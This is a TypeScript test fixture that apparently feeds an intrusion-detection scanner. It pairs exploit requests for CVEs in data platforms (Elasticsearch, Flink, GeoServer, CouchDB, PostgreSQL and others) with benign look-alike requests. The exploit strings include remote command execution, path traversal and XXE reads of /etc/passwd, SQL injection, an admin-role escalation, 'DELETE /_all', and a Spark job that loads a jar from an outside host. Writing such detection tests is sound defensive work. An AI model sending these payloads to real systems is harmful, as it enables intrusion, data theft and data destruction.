import type { Cases } from './cases.ts';

export const dataPlatforms: Cases = {
  'CVE-2014-3120': [
    'POST /_search?pretty\n\n{"script_fields":{"a":{"script":"import java.util.*;import java.io.*;new Scanner(Runtime.getRuntime().exec(\\"id\\").getInputStream())"}}}',
    'POST /_search\n\n{"script_fields":{"a":{"script":"doc[\'price\'].value*2"}}}',
  ],
  'CVE-2015-1427': [
    'POST /_search\n\n{"size":1,"script_fields":{"a":{"lang":"groovy","script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\")"}}}',
    'POST /_search\n\n{"script_fields":{"a":{"lang":"painless","script":"1"}}}',
  ],
  'CVE-2015-5531': [
    'GET /_snapshot/pwn/backdata%2f..%2f..%2fconfig%2felasticsearch.yml',
    'GET /_snapshot/nightly/2026-11-01',
  ],
  'elasticsearch-indices-read': ['GET /_cat/indices?v', 'GET /cat/indices'],
  'elasticsearch-delete-all': ['DELETE /_all', 'GET /_all'],
  'hadoop-yarn-new-application': ['POST /ws/v1/cluster/apps/new-application', 'GET /v1/cluster/nodes'],
  'CVE-2022-33891': ['GET /?doAs=`id`', 'GET /?doAs=mara'],
  'spark-submit': [
    'POST /v1/submissions/create\n\n{"action":"CreateSubmissionRequest","appResource":"http://198.51.100.7/a.jar"}',
    'POST /v1/submissions\n\n{}',
  ],
  'CVE-2020-17519': [
    'GET /jobmanager/logs/..%252f..%252f..%252fetc%252fpasswd',
    'GET /jobmanager/logs/flink.log',
  ],
  'CVE-2020-17518': [
    'POST /jars/upload\n\n--a\nContent-Disposition: form-data; name="jarfile"; filename="../../../../../../tmp/a"\n\nx\n--a--',
    'POST /cars/upload\n\nx',
  ],
  'flink-jar-list': ['GET /jars', 'GET /shop/jars'],
  'zeppelin-notebook': [
    'POST /api/notebook\n\n{"name":"a","paragraphs":[{"text":"%sh id"}]}',
    'GET /api/notebooks',
  ],
  'CVE-2020-11978': [
    'POST /api/experimental/dags/example_trigger_target_dag/dag_runs\n\n{"conf":{"message":"\\"; id;#"}}',
    'POST /api/v1/dags/report/dagRuns\n\n{}',
  ],
  'CVE-2023-27524': [
    'GET /superset/welcome/\nCookie: session=eyJfdXNlcl9pZCI6MX0.ZE.abc',
    'GET /superset/welcome/\nCookie: session=eyJsb2NhbGUiOiJlbiJ9.ZE.abc',
  ],
  'CVE-2023-38646': [
    'POST /api/setup/validate\n\n{"token":"a","details":{"engine":"h2","details":{"db":"zip:/app/metabase.jar!/sample-database.db;TRACE_LEVEL_SYSTEM_OUT=1"}}}',
    'POST /api/setup/status\n\n{}',
  ],
  'CVE-2021-41277': [
    'GET /api/geojson?url=file:///etc/passwd',
    'GET /api/geojson?url=https://maps.example/a.json',
  ],
  'CVE-2017-12635': [
    'PUT /_users/org.couchdb.user:a\n\n{"type":"user","name":"a","roles":["_admin"],"roles":[],"password":"a"}',
    'PUT /_users/org.couchdb.user:a\n\n{"type":"user","name":"a","roles":[],"password":"a"}',
  ],
  'CVE-2017-12636': ['PUT /_config/query_servers/cmd\n\n"id >/tmp/a"', 'GET /_config/log'],
  'CVE-2023-28432': ['POST /minio/bootstrap/v1/verify', 'GET /minio/health/live'],
  'CVE-2021-21287': [
    'POST /minio/webrpc\n\n{"id":1,"jsonrpc":"2.0","params":{"token":"a"},"method":"web.LoginSTS"}',
    'POST /minio/webrpc\n\n{"id":1,"method":"Web.ListBuckets"}',
  ],
  'CVE-2024-36401': [
    'GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    'GET /geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=name',
  ],
  'CVE-2023-25157': [
    "GET /geoserver/ows?service=wfs&version=1.0.0&request=GetFeature&typeName=a&CQL_FILTER=strStartsWith(name,'x'')%20=%20true%20and%201=1--')%20=%20true",
    'GET /geoserver/ows?service=wfs&request=GetFeature&CQL_FILTER=POP%20%3E%201000',
  ],
  'CVE-2022-24816': [
    'POST /geoserver/wms\n\n<wps:Execute><ows:Identifier>ras:Jiffle</ows:Identifier><wps:LiteralData>dest = y() - (500); // */ public class Double { static { java.lang.Runtime } }</wps:LiteralData></wps:Execute>',
    'POST /geoserver/wps\n\n<wps:Execute><ows:Identifier>ras:Jiffle</ows:Identifier><wps:LiteralData>dest = a + b;</wps:LiteralData></wps:Execute>',
  ],
  'CVE-2025-58360': [
    'POST /geoserver/wms?service=WMS&request=GetMap\n\n<!DOCTYPE StyledLayerDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><StyledLayerDescriptor version="1.0.0"/>',
    'POST /geoserver/wms?service=WMS&request=GetMap\n\n<StyledLayerDescriptor version="1.0.0"/>',
  ],
  'CVE-2021-40822': [
    'POST /geoserver/TestWfsPost\n\nform_hf_0=&url=http://198.51.100.7/geoserver/../&body=',
    'GET /geoserver/wfs?url=a',
  ],
  'geoserver-looked-for': ['GET /geoserver/web/', 'GET /geo/server/web/'],
  'CVE-2020-9483': [
    'POST /graphql\n\n{"query":"query queryLogs($condition: LogQueryCondition){queryLogs(condition:$condition){total}}","variables":{"condition":{"metricName":"sqli union select 1"}}}',
    'POST /graphql\n\n{"query":"query queryLogs{a}","variables":{"condition":{"metricName":"cpu"}}}',
  ],
  'CVE-2021-45232': ['GET /apisix/admin/migrate/export', 'GET /apisix/admin/routes'],
  'CVE-2022-24112': [
    'POST /apisix/batch-requests\n\n{"headers":{"X-Real-IP":"127.0.0.1"},"pipeline":[{"path":"/apisix/admin/routes/index","method":"PUT","body":"{\\"filter_func\\":\\"function(vars) os.execute(\'id\') end\\"}"}]}',
    'POST /apisix/batch-requests\n\n{"pipeline":[{"path":"/a"}]}',
  ],
  'CVE-2021-36749': [
    'POST /druid/indexer/v1/sampler\n\n{"spec":{"ioConfig":{"inputSource":{"type":"http","uris":["file:///etc/passwd"]}}}}',
    'POST /druid/indexer/v1/sampler\n\n{"spec":{"ioConfig":{"inputSource":{"type":"http","uris":["https://data.example/a"]}}}}',
  ],
  'CVE-2021-44521': [
    'bytes:create or replace function x.y(name text) RETURNS NULL ON NULL INPUT returns text language javascript as $$ java.lang.Runtime $$; create function x.y',
    'bytes:create function x.y(a int) returns int language java as $$ return a; $$',
  ],
  'CVE-2019-9193': [
    "bytes:DROP TABLE IF EXISTS c; CREATE TABLE c(o text); COPY c FROM PROGRAM 'id';",
    "bytes:COPY c FROM '/tmp/programs.csv'",
  ],
  'mssql-xp-cmdshell': ["bytes:EXEC master..xp_cmdshell 'whoami'", 'bytes:select shell from commands'],
  'mysql-udf': [
    "bytes:create function sys_eval returns string soname 'udf.so'",
    'bytes:create function total(a int) returns int return a',
  ],
  'CVE-2021-32305': ['GET /websvn/search.php?search=%22;id;%22', 'GET /websvn/search.php?search=%22a+b%22'],
  'influxdb-looked-for': ['GET /query?q=SHOW+DIAGNOSTICS', 'GET /query?q=show+times'],
};
